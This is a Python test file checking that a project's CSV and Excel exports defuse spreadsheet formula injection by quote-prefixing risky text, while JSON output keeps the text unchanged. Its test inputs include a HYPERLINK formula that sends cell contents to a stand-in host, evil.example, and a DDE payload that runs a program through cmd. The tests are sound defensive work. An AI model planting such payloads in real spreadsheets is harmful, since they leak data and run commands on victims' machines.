"""Texts that a spreadsheet would calculate, in what we write for people. The open data CSV stays faithful, and its
workbook stores texts as texts: tests/publication/test_pack.py."""

import csv
import io
import json
from dataclasses import replace

import openpyxl
import pytest

from orchestration.matching.model import Match
from orchestration.matching.showing import write
from orchestration.recognition.review import export_queue
from orchestration.spreadsheets import defused

from ..recognition.conftest import NOW, recogniser, scheme  # noqa: F401 (fixtures)

CALCULATED = (
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+33 1 23",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


@pytest.mark.parametrize("text", CALCULATED)
def test_a_match_for_a_spreadsheet_calculates_nothing_and_json_has_the_text_as_it_is(text):
    match = Match({"name": text}, [], {"offers": [{"title_fr": text, "covers": [text, "B"], "hours": -3.5}]})
    sink = io.BytesIO()
    write(match, "csv", sink)
    (row,) = csv.DictReader(io.StringIO(sink.getvalue().decode(), newline=""))
    assert row["subject_name"] == row["title_fr"] == f"'{text}"
    assert row["covers"] == f"'{text}|B"
    assert row["hours"] == "-3.5"  # a number stays one
    sink = io.BytesIO()
    write(match, "json", sink)
    assert json.loads(sink.getvalue())["offers"][0]["title_fr"] == text


def test_harmless_texts_stay_as_they_are():
    for text in ("Soudure", "a=b", "", "1 + 1", "l'école", "’=1"):
        assert defused(text) == text


def test_a_reviewer_gets_texts_alone_and_control_characters_break_nothing(recogniser, scheme, tmp_path):  # noqa: F811
    answers = [*CALCULATED, "brevets \x0bet marques"]
    (some, *_) = recogniser.answers(["protéger vraiment nos brevets"], NOW)[0]
    mappings = [replace(some, key=f"k{place}", part=text) for place, text in enumerate(answers)]
    path = tmp_path / "queue.xlsx"
    assert export_queue(mappings, scheme, path) == len(answers)
    sheet = openpyxl.load_workbook(path)["queue"]
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert {cell.data_type for cell in cells.values()} == {"s"}
    assert {key for key, cell in cells.items() if cell.quotePrefix} == {
        f"k{n}" for n in range(len(CALCULATED))
    }
    assert cells["k6"].value == "brevets \ufffdet marques"
